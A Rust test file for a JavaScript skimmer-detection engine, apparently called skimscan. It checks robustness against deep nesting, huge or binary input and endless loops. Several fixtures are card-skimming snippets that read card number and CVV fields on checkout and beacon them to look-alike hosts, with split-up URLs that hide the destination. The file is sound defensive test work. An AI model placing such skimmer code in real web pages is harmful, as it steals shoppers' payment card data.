//! The failure modes of issue 3, item 1: hostile nesting, huge one-line files, broken and
//! binary input, and decoded code that loops forever must neither crash, hang nor go
//! quadratic; exceeding a budget is an obfuscation finding plus an `errors` entry.

use skimscan::inventory::ScriptKind;
use skimscan::js::{AnalysisJob, Engine, HostPolicy};
use skimscan::rules::RuleSet;
use std::sync::Arc;
use std::time::{Duration, Instant};

fn engine() -> Engine {
    Engine::new(
        Arc::new(RuleSet::load(false, &[]).expect("shipped rules")),
        HostPolicy::default(),
    )
}

fn job(code: String) -> AnalysisJob {
    AnalysisJob {
        script_id: "t.js".into(),
        kind: ScriptKind::External,
        code: code.into(),
        page_url: "t.js".into(),
        page_host: None,
        payment_page: true,
        page_fields: Vec::new(),
        page_values: Default::default(),
        page_form: Vec::new(),
        line_offset: 1,
        column_offset: 1,
    }
}

#[test]
fn ten_thousand_deep_nesting_is_a_budget_finding_not_a_crash() {
    let e = engine();
    for deep in [
        format!("var x = {}1{};", "(".repeat(10_000), ")".repeat(10_000)),
        format!("f{}", "(".repeat(10_000)),
        format!("var a = {}0{};", "[".repeat(10_000), "]".repeat(10_000)),
        format!("var s = 1{};", "+1".repeat(200_000)),
    ] {
        let t = Instant::now();
        let r = e.analyse_batch(vec![job(deep)]).pop().unwrap();
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "took {:?}",
            t.elapsed()
        );
        assert!(
            r.findings
                .iter()
                .any(|f| f.rule == "analysis-budget-exceeded"),
            "{:?}",
            r.findings
        );
        assert_eq!(r.errors.len(), 1, "{:?}", r.errors);
    }
}

#[test]
fn deep_nesting_does_not_hide_the_rest_of_the_script() {
    let code = format!(
        "var x = {}1{};\nvar n = document.getElementById('cc_number').value;\nfetch('https://exfil.example/c', {{method:'POST', body:n}});\n",
        "(".repeat(5_000),
        ")".repeat(5_000)
    );
    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "payment-data-exfiltration"),
        "{:?}",
        r.findings
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "analysis-budget-exceeded")
    );
}

#[test]
fn a_twenty_megabyte_line_is_analysed_in_linear_time() {
    let unit = "a.push('xyzzy',1,2,3);";
    let code: String = unit.repeat(19 * 1024 * 1024 / unit.len());
    // Its speed is measured in BENCHMARKS.md (1.8 s in release), not asserted here: a debug
    // build on a busy CI machine may hit the per-script time budget, which must then be
    // reported as such — never a crash, a hang or a silent pass.
    // What can be asserted whatever the machine's speed: one result, no panic caught by the
    // worker ("internal error"), and either a complete analysis of this harmless code (no
    // finding at all) or the time budget reported as both an error and a budget finding.
    let mut results = engine().analyse_batch(vec![job(code)]);
    assert_eq!(results.len(), 1);
    let r = results.remove(0);
    assert!(
        r.errors.iter().all(|e| e.contains("time budget")),
        "{:?}",
        r.errors
    );
    if r.errors.is_empty() {
        assert!(r.findings.is_empty(), "{:?}", r.findings);
    } else {
        assert_eq!(r.errors.len(), 1, "{:?}", r.errors);
        let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
        assert_eq!(rules, vec!["analysis-budget-exceeded"], "{:?}", r.findings);
    }
}

#[test]
fn more_than_twenty_megabytes_is_capped_with_an_error() {
    let code = "var a = 1;\n".repeat(2 * 1024 * 1024);
    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "analysis-budget-exceeded")
    );
    assert!(
        r.errors.iter().any(|e| e.contains("20 MB")),
        "{:?}",
        r.errors
    );
}

#[test]
fn broken_binary_and_empty_input_never_end_the_scan() {
    let e = engine();
    let inputs = vec![
        String::new(),
        "}}}}{{{{ ))) (((".to_string(),
        String::from_utf8_lossy(&(0u8..=255).cycle().take(100_000).collect::<Vec<u8>>())
            .into_owned(),
        "var s = '\\u{zz}; function (".to_string(),
    ];
    let results = e.analyse_batch(inputs.into_iter().map(job).collect());
    assert_eq!(results.len(), 4);
    assert!(results[0].findings.is_empty() && results[0].errors.is_empty());
    // The worker turns a panic into an "internal error" result, so a length check alone
    // passes on a crash: no input here may reach that path.
    for (i, r) in results.iter().enumerate() {
        assert!(
            !r.errors.iter().any(|e| e.contains("internal error")),
            "input {i} crashed the analysis: {:?}",
            r.errors
        );
        assert!(
            r.findings
                .iter()
                .all(|f| f.rule != "payment-data-exfiltration"),
            "input {i}: {:?}",
            r.findings
        );
    }
}

#[test]
fn decoded_code_that_loops_forever_is_bounded_by_fuel() {
    // The evaluator runs decoders; one that never terminates must run out of fuel.
    let code = "var s = ''; while (true) { s += 'a'; }\nvar t = ''; for (;;) { t = t + t + 'x'; }\neval(atob('d2hpbGUodHJ1ZSl7fQ=='));".to_string();
    let t = Instant::now();
    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
    assert!(
        t.elapsed() < Duration::from_secs(10),
        "took {:?}",
        t.elapsed()
    );
    assert!(r.errors.is_empty(), "{:?}", r.errors);
}

#[test]
fn results_keep_the_order_of_the_jobs() {
    let e = engine();
    let jobs: Vec<AnalysisJob> = (0..12)
        .map(|i| {
            let mut j = job(if i % 2 == 0 {
                "var x = 1;".into()
            } else {
                "new Image().src='https://e.example/?'+document.getElementById('cvv').value;".into()
            });
            j.script_id = format!("s{i}");
            j
        })
        .collect();
    let r = e.analyse_batch(jobs);
    for (i, a) in r.iter().enumerate() {
        assert_eq!(a.findings.is_empty(), i % 2 == 0, "job {i}");
        if let Some(f) = a.findings.first() {
            assert_eq!(f.script.as_deref(), Some(format!("s{i}").as_str()));
        }
    }
}

/// Found by the `js_grammar` fuzz target: calls on an unknown receiver nested 900 deep
/// (`a.b(a.b(…))`, under the nesting limit) made every quick look at a call's argument
/// re-evaluate the whole nest, spent the script's evaluation budget on nothing and left the
/// skimmer after it with an unknown destination. Nothing is computed for a call on an
/// unknown receiver, so its arguments are not evaluated either.
#[test]
fn nested_calls_on_unknown_receivers_do_not_spend_the_budget_of_the_skimmer_after_them() {
    let code = format!(
        "{}x{};\n\
         document.querySelector('#checkout').addEventListener('submit', function () {{\n\
           var card = document.getElementById('cc-number').value;\n\
           var cvv = document.getElementById('cc-cvv').value;\n\
           var host = ['https://', 'cdn-analytic', 's-stats.com', '/c.gif?d='].join('');\n\
           new Image().src = host + btoa(card + '|' + cvv);\n\
         }});\n",
        "a.b(".repeat(900),
        ")".repeat(900)
    );
    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    let exfil = r
        .findings
        .iter()
        .find(|f| f.rule == "payment-data-exfiltration")
        .unwrap_or_else(|| panic!("{:?}", r.findings));
    assert!(
        exfil.message.contains("cdn-analytics-stats.com"),
        "{}",
        exfil.message
    );
}

/// A prefix that spends the whole evaluation budget on purpose (a loop called from 400
/// places) must not leave the skimmer after it unread: its selectors and its destination are
/// still evaluated, and the partial analysis is still reported.
#[test]
fn a_prefix_that_burns_the_budget_does_not_hide_the_skimmer_after_it() {
    let mut code =
        String::from("function spin(n){var s=0;for(var i=0;i<1000000;i++){s+=i*n}return s}\n");
    for i in 0..400 {
        code.push_str(&format!("track('e{i}', spin({i}));\n"));
    }
    code.push_str(
        "document.querySelector('#checkout').addEventListener('submit', function () {\n\
           var card = document.getElementById('cc-number').value;\n\
           var host = ['https://', 'cdn-analytic', 's-stats.com', '/c.gif?d='].join('');\n\
           new Image().src = host + btoa(card);\n\
         });\n",
    );
    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    assert!(rules.contains(&"analysis-budget-exceeded"), "{rules:?}");
    let exfil = r
        .findings
        .iter()
        .find(|f| f.rule == "payment-data-exfiltration")
        .unwrap_or_else(|| panic!("{rules:?}"));
    assert!(
        exfil.message.contains("cdn-analytics-stats.com"),
        "{}",
        exfil.message
    );
}

/// A skimmer's enclosing function first spins a loop that costs more than running the
/// function's statements may take: the loop is given up (its variables unknown), and the
/// address the listener assembles after it is still named.
#[test]
fn a_loop_that_burns_the_enclosing_run_does_not_hide_the_address_after_it() {
    let code = "(function () {\n\
          var h = 0; for (var i = 0; i < 3000000; i++) h = (h * 31 + i) | 0;\n\
          document.addEventListener('submit', function () {\n\
            var p = [];\n\
            p.push('https://');\n\
            p.push('metrics-jsdelivr');\n\
            p.push('.net/c');\n\
            var d = document.querySelector('#cc-number').value + '|' +\n\
                    document.querySelector('[autocomplete=cc-csc]').value;\n\
            navigator.sendBeacon(p.join(''), d);\n\
          }, true);\n\
        })();\n"
        .to_string();
    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    let exfil = r
        .findings
        .iter()
        .find(|f| f.rule == "payment-data-exfiltration")
        .unwrap_or_else(|| panic!("{rules:?}"));
    assert!(
        exfil.message.contains("metrics-jsdelivr.net"),
        "{}",
        exfil.message
    );
}

/// A loop the run cannot follow (its bound is a page value) leaves what it writes unknown,
/// except the known start of a string it only appends to: the address is still named.
#[test]
fn a_loop_the_run_cannot_follow_keeps_only_what_it_cannot_change() {
    let code = "(function () {\n\
          document.querySelector('form.checkout').addEventListener('submit', function () {\n\
            var u = 'https://img-shopcdn-stats.com/p.gif?';\n\
            var fields = document.querySelectorAll('input');\n\
            for (var i = 0; i < fields.length; i++) {\n\
              u += fields[i].name + '=' + encodeURIComponent(fields[i].value) + '&';\n\
            }\n\
            var card = document.getElementById('cc-number').value;\n\
            new Image().src = u + 'c=' + btoa(card);\n\
          });\n\
        })();\n"
        .to_string();
    let r = engine().analyse_batch(vec![job(code)]).pop().unwrap();
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    let exfil = r
        .findings
        .iter()
        .find(|f| f.rule == "payment-data-exfiltration")
        .unwrap_or_else(|| panic!("{rules:?}"));
    assert!(
        exfil.message.contains("img-shopcdn-stats.com"),
        "{}",
        exfil.message
    );
}
